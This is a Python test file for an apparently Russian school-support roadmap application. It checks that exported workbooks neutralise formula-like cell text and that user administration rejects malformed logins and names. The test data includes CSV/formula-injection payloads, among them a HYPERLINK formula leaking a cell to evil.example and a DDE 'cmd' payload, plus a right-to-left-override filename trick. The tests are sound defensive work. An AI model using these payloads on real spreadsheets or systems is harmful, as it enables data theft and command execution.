"""Issue 29 in core: every file going out keeps formula-like text as text (the Word draft workbook
included), user administration refuses bad logins and names, values out of their plausible range
are refused, formatting survives any stored float."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from docx import Document
from openpyxl import load_workbook

from core import roadmap_book, roadmap_docx

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+7 900 000-00-00", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-2+3", "=1+1"]


def _formulas(xlsx: bytes) -> list[str]:
    """The formulas a spreadsheet program would run: every <f> element of every sheet."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [m for n in z.namelist() if n.startswith("xl/worksheets/")
                for m in re.findall(r"<f[ >].*?</f>", z.read(n).decode("utf-8"))]


def test_the_word_draft_workbook_keeps_formula_like_text_as_text():
    doc = Document()
    doc.add_paragraph("Дорожная карта по поддержке школ в Берёзовском районе на 2025 год")
    t = doc.add_table(rows=0, cols=5)
    rows = [["№ п/п", "Мероприятие", "Срок", "Ответственный", "Ожидаемый результат"]]
    rows += [[str(k), v, "Март 2025 года", HOSTILE_CELLS[(k + 1) % 5], HOSTILE_CELLS[(k + 2) % 5]]
             for k, v in enumerate(HOSTILE_CELLS, 1)]
    for r in rows:
        for c, v in zip(t.add_row().cells, r):
            c.text = v
    out = io.BytesIO()
    doc.save(out)
    xlsx, _ = roadmap_docx.draft_workbook(out.getvalue(), "hostile.docx")
    assert _formulas(xlsx) == []
    ws = load_workbook(io.BytesIO(xlsx))["Мероприятия"]
    seen = {c.value for row in ws.iter_rows() for c in row if c.value in HOSTILE_CELLS}
    assert seen == set(HOSTILE_CELLS)  # the text itself, unchanged, reads back
    for row in ws.iter_rows():
        for c in row:
            if c.value in HOSTILE_CELLS:
                assert c.data_type == "s" and c.quotePrefix


def test_the_roadmap_workbook_keeps_formula_like_text_as_text():
    book = {"roadmap": {"code": "=1+1", "title": HOSTILE_CELLS[0]},
            "Мероприятия": [{"number": "1", "title": v, "responsible": "@x"} for v in HOSTILE_CELLS]}
    xlsx = roadmap_book.write(book)
    assert _formulas(xlsx) == []
    wb = load_workbook(io.BytesIO(xlsx))
    values = {c.value for row in wb["Мероприятия"].iter_rows(min_row=3) for c in row}
    assert set(HOSTILE_CELLS) | {"@x"} <= values


# ---------------------------------------------------------------------------------------------
# 6. User administration validates logins and names
# ---------------------------------------------------------------------------------------------
BAD_USERS = [
    ({"login": "x" * 10_000}, "Логин слишком длинный: 10000 символов"),
    ({"login": "a" * 65}, "не больше 64"),
    ({"login": "nul\x00byte"}, "U+0000"),
    ({"login": "evil\u202etxt.exe"}, "U+202E"),
    ({"login": "два слова"}, "« » недопустим"),
    ({"login": "<script>"}, "«<» недопустим"),
    ({"login": "   "}, "Укажите логин"),
    ({"full_name": "Иванов\u202eвонаИ"}, "ФИО содержит недопустимый"),
    ({"full_name": "Иванов\x00"}, "U+0000"),
    ({"full_name": "Иванов\u200bИван"}, "U+200B"),
    ({"full_name": "Я" * 256}, "ФИО слишком длинное: 256"),
]


@pytest.mark.parametrize("bad,message", BAD_USERS, ids=[m for _, m in BAD_USERS])
def test_user_administration_refuses_bad_logins_and_names(demo_db_any, bad, message):
    from sqlalchemy import func, select as sa_select

    from core import auth, users
    from core.db import session_scope
    from core.models import User
    from tests.test_auth import scope_of

    admin = scope_of(demo_db_any, "demo-admin")
    with session_scope(demo_db_any) as s:
        before = s.execute(sa_select(func.count()).select_from(User)).scalar()
    fields = {"login": "new-person", "full_name": "Новый Человек", **bad}
    with pytest.raises(auth.AuthError, match=re.escape(message)):
        users.create(admin, password="длинный-пароль", role="admin", engine=demo_db_any, **fields)
    with session_scope(demo_db_any) as s:
        assert s.execute(sa_select(func.count()).select_from(User)).scalar() == before
    if "full_name" in bad:  # a rename is held to the same rule
        with pytest.raises(auth.AuthError, match=re.escape(message)):
            users.update(admin, admin.user_id, role="admin", territory_id=None, school_id=None,
                         full_name=bad["full_name"], engine=demo_db_any)


def test_ordinary_logins_and_names_pass(demo_db_any):
    from core import auth, users
    from tests.test_auth import scope_of

    admin = scope_of(demo_db_any, "demo-admin")
    for login, name in [("ivanova.m-2@school_7", "Иванова Мария-Луиза Петровна"), ("Ёлкин", "Ёлкин Ё. Ё."),
                        ("a" * 64, "О’Нил Шон")]:
        users.create(admin, login=login, password="длинный-пароль", full_name=name, role="admin", engine=demo_db_any)
        assert auth.login(login, "длинный-пароль", engine=demo_db_any).ok
